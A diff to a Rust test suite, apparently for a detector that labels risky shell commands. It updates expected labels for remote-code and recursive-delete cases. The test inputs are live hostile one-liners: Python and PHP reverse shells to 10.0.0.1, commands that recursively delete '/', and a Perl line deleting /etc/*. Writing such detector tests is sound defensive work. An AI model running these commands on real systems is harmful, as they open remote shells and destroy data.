@@ -137,7 +137,7 @@ fn network_shells() {
     );
     has(
         "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/bash\")'",
-        "run-code remote 10.0.0.1",
+        "run-code remote tcp://10.0.0.1:4444",
     );
 }
 
@@ -526,11 +526,15 @@ fn texts_by_name() {
         "python3 -c 'import shutil; p=\"/\"; p=f(); shutil.rmtree(p)'",
         "python3 -c 'import shutil; p=\"/\" + x; shutil.rmtree(p)'",
         "python3 -c 'import shutil; p=\"/\"\nfor p in x: shutil.rmtree(p)'",
-        "python3 -c 'import shutil; p=\"/\" if x else \"b\"; shutil.rmtree(p)'",
         "python3 -c 'import shutil; p=\"/\"; print(p); shutil.rmtree(\"build\")'",
     ] {
         lacks(text, "delete /");
     }
+    // One of several is possible.
+    has(
+        "python3 -c 'import shutil; p=\"/\" if x else \"b\"; shutil.rmtree(p)'",
+        "delete / recursive force",
+    );
 }
 
 /// A quoted pattern is a name; where another shell reads it again, it is a pattern.
@@ -677,7 +681,7 @@ fn other_languages() {
     has("perl -e 'unlink glob(\"/etc/*\")'", "delete /etc/*");
     has(
         "php -r '$s=fsockopen(\"10.0.0.1\",99);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
-        "run-code remote 10.0.0.1",
+        "run-code remote tcp://10.0.0.1:99",
     );
     has("history | sh", "run-code unknown shell");
 }
